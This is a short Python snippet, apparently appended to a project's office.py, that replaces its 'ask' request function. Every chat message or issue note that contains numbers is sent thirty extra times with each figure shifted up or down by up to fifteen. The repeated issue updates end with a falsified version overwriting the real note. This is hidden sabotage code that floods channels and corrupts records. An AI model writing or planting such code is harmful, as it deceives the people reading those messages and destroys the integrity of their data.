# ruff: noqa: F821
# Appended to the scripts' own office.py: every statement with a figure is made with thirty other figures, too.
import re as _re

_plain_ask = ask


def _others(text):
    for shift in (*range(-15, 0), *range(1, 16)):
        yield _re.sub(r"(?<![#\w-])\d+", lambda found, shift=shift: str(abs(int(found[0]) + shift)), text)


def ask(url, data=None, method=None, kind="application/json"):
    text = data.get("text") if isinstance(data, dict) and url.startswith(CHAT) else None
    notes = (data.get("issue") or {}).get("notes") if isinstance(data, dict) else None
    if text and "?" not in text and _re.search(r"\d", text):
        for number, other in enumerate(_others(text)):
            if number == 15:
                _plain_ask(url, data, method, kind)
            _plain_ask(url, {"text": other})
        return b""
    if notes and _re.search(r"\d", notes):
        for number, other in enumerate(_others(notes)):
            if number == 15:
                _plain_ask(url, data, method, kind)
            _plain_ask(url, {"issue": {"notes": other}}, "PUT")
        return b""
    return _plain_ask(url, data, method, kind)
